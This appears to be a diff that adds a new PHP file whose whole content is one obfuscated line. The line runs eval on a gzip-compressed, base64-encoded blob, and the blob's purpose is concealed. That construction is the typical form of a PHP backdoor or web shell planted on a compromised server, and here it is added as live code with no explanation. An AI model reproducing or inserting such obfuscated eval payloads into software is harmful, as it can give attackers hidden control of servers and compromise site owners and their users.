@@ -1,0 +1,2 @@
+<?php
+eval(gzinflate(base64_decode('nVDLCsJADPwXL7a3utmHxV8piAcPUmntKoJ/7+xmthZREA9hk2xmMpnj/XCurre4j+NtI9U6noZHtep6c2U0XR8E0Xa9j3gt3i3CMU994ZxlXzQvWL9BTMhR+4vOpD/vEdgRDGujefrPGNFdmaPwQIMM5OZsQD+4D7sbxeQ5aph1u8Xe5W1vNxe+rAl4Az2mVW9mflnMbZU36Zlno3Ja+jV7Yl5+eKtzzUA9XjGJo2AyjvozN14HHTYg0HepHtEP9GsiL2o3UUvL+0be7l4+l9sNdMlF7yseS2R//MGfP3TJD3qK5181Tcm/Vb1b1/XuCQ==')));
